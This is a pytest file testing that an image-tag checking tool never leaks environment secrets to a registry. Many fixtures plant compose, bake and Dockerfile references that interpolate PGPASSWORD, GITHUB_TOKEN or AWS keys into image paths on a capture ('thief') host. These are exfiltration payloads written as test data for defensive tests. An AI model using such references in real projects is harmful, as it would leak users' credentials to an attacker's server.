"""What a reference holds goes to the registry that it names: never the user's environment."""

from __future__ import annotations

import os
from typing import Any

import pytest

from tests.hostile.promise import promised
from tests.hostile.victim import SECRETS, Capture, Victim

COMPOSE = {
    "whole": "${PGPASSWORD}",
    "default": "${PGPASSWORD:-x}",
    "error": "${PGPASSWORD:?give it}",
    "condition": "${PGPASSWORD:+is-set}",
    "unset condition": "${PGPASSWORD+is-set}",
    "nested": "${NONE:-${PGPASSWORD}}",
}
BAKE = {
    "whole": "${PGPASSWORD}",
    "lower": "${lower(GITHUB_TOKEN)}",
    "hash": "${md5(GITHUB_TOKEN)}",
    "piece": "${substr(AWS_SECRET_ACCESS_KEY, 0, 4)}",
    "condition": '${substr(PGPASSWORD, 0, 1) == "p" ? "yes" : "no"}',
}


def compose(place: Victim, thief: Capture, text: str) -> None:
    place.write("compose.yaml", f"services: {{a: {{image: '{thief.host}/x/{text}:1'}}}}\n")


async def named(place: Victim, *flags: str) -> list[dict[str, Any]]:
    """The references, once by `extract` and once by `check`; no secret in either's words."""
    found = await place.run("extract", "--format", "json", *flags, ".")
    checked = await place.run("check", "--max-time", "5", "--format", "json", *flags, ".")
    for secret in SECRETS.values():
        for text in (found.out, found.err, checked.out, checked.err):
            assert secret not in text
            assert secret.lower() not in text
    targets: list[dict[str, Any]] = found.json["targets"]
    return targets


@promised(
    "a tree",
    "`${PGPASSWORD}` in an image of a compose file",
    "the variable reaches no host",
)
@pytest.mark.parametrize("how", sorted(set(COMPOSE) - {"default"}))
async def test_a_compose_file(victim: Victim, thief: Capture, how: str) -> None:
    compose(victim, thief, COMPOSE[how])
    (target,) = await named(victim)
    assert (target["reference"], target["missing"]) == (None, ["PGPASSWORD"])
    thief.tells_nothing()


async def test_a_default_counts_whatever_the_environment_says(
    victim: Victim, thief: Capture
) -> None:
    """Whether the variable is set would be a bit of it, too."""
    compose(victim, thief, COMPOSE["default"])
    (target,) = await named(victim)
    assert target["reference"] == f"{thief.host}/x/x:1"
    assert thief.heard, "the capture server hears what is asked"


@promised(
    "a tree",
    "`${lower(GITHUB_TOKEN)}` in a bake file",
    "the variable reaches no host",
)
@pytest.mark.parametrize("how", BAKE)
async def test_a_bake_file(victim: Victim, thief: Capture, how: str) -> None:
    names = ("PGPASSWORD", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY")
    variables = "".join(f'variable "{name}" {{}}\n' for name in names)
    victim.write(
        "docker-bake.hcl",
        variables
        + f'target "a" {{ contexts = {{ b = "docker-image://{thief.host}/x/{BAKE[how]}:1" }} }}\n',
    )
    (target,) = await named(victim)
    assert target["reference"] is None
    assert target["missing"]
    thief.tells_nothing()


async def test_arguments_of_a_build(victim: Victim, thief: Capture) -> None:
    victim.write("Dockerfile", f"ARG PGPASSWORD\nFROM {thief.host}/x/$PGPASSWORD:1\n")
    victim.write("compose.yaml", "services: {a: {build: {context: ., args: [PGPASSWORD]}}}\n")
    (target,) = await named(victim)
    assert target["reference"] is None
    thief.tells_nothing()


@pytest.mark.parametrize("who", ["--env", "the operator's file", "a pattern"])
async def test_whoever_allows_a_name(victim: Victim, who: str) -> None:
    victim.environment["CI_COMMIT_TAG"] = "v7"
    victim.write("compose.yaml", "services: {a: {image: 'redis:${CI_COMMIT_TAG}'}}\n")
    flags: tuple[str, ...] = ()
    if who == "the operator's file":
        operators = "../home/.config/tagwatch/tagwatch.yaml"
        victim.write(operators, "environment: [TAG, 'CI_COMMIT_*']\n")
    else:
        flags = ("--env", "CI_COMMIT_TAG" if who == "--env" else "CI_COMMIT_*")
    found = await victim.run("extract", "--format", "json", *flags, ".")
    assert [one["tag"] for one in found.json["targets"]] == ["v7"]
    done = await victim.run("check", "--offline", *flags, ".")
    assert "was not audited: CI_COMMIT_TAG" not in done.out


async def test_the_problem_names_the_way(victim: Victim) -> None:
    victim.write("compose.yaml", "services: {a: {image: 'redis:${TAG}'}}\n")
    done = await victim.run("check", "--offline", "--all", ".")
    assert "TAG has no value here" in done.out
    assert "let your environment's value be used: --env TAG" in " ".join(done.out.split())


async def test_a_tree_cannot_allow_a_name(victim: Victim) -> None:
    victim.write("compose.yaml", "services: {a: {image: 'redis:${PGPASSWORD}'}}\n")
    victim.write("tagwatch.yaml", "environment: ['*']\n")
    said = (await victim.run("check", ".")).is_clean_error(2)
    assert "environment is the operator's to say" in said


@promised(
    "a tree",
    "a variable of the user's own, untracked `.env`",
    "it does not count",
)
@pytest.mark.parametrize("how", ["beside it", "included", "a tracked link to it"])
async def test_the_users_own_dotenv(victim: Victim, thief: Capture, how: str) -> None:
    """What git does not track is the user's environment, not the tree's word."""
    compose(victim, thief, "${PG}")
    victim.write(".gitignore", ".env\nsecret.env\n")
    if how == "included":
        victim.write(
            "main/compose.yaml", "include: [{path: ../compose.yaml, env_file: ../secret.env}]\n"
        )
    if how == "a tracked link to it":
        victim.folder.joinpath(".env").symlink_to("secret.env")
    victim.commit()
    victim.write(".env" if how == "beside it" else "secret.env", "PG=plantedpostgres\n")
    for target in await named(victim):
        assert (target["reference"], target["missing"]) == (None, ["PG"])
    thief.tells_nothing()


async def test_a_dotenv_that_git_tracks(victim: Victim) -> None:
    victim.write("compose.yaml", "services: {a: {image: 'redis:${V}'}}\n")
    victim.write(".env", "V=7.4\n")
    found = await victim.run("extract", "--format", "json", ".")
    assert [one["missing"] for one in found.json["targets"]] == [["V"]], "not tracked yet"
    victim.git("add", ".env")
    below = victim.folder / "below"
    below.mkdir()
    found = await Victim(below, victim.environment).run("extract", "--format", "json", "..")
    assert [one["tag"] for one in found.json["targets"]] == ["7.4"]


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root may chown")
async def test_the_users_own_dotenv_in_a_tree_of_another_user(victim: Victim) -> None:
    """Its root is not ours, but what git does not track is no tree's word there either."""
    os.chown(victim.folder / ".git", 65534, 65534)
    below = victim.folder / "below"
    below.mkdir()
    here = Victim(below, victim.environment)
    here.write("compose.yaml", "services: {a: {image: 'redis:${V}'}}\n")
    here.write(".env", "V=7.4\n")
    found = await here.run("extract", "--format", "json", ".")
    assert [one["missing"] for one in found.json["targets"]] == [["V"]]


async def test_a_dotenv_where_there_is_no_git(victim: Victim) -> None:
    victim.folder.joinpath(".git").rename(victim.folder.parent / "elsewhere")
    victim.write("compose.yaml", "services: {a: {image: 'redis:${V}'}}\n")
    victim.write(".env", "V=7.4\n")
    found = await victim.run("extract", "--format", "json", ".")
    assert [one["tag"] for one in found.json["targets"]] == ["7.4"]
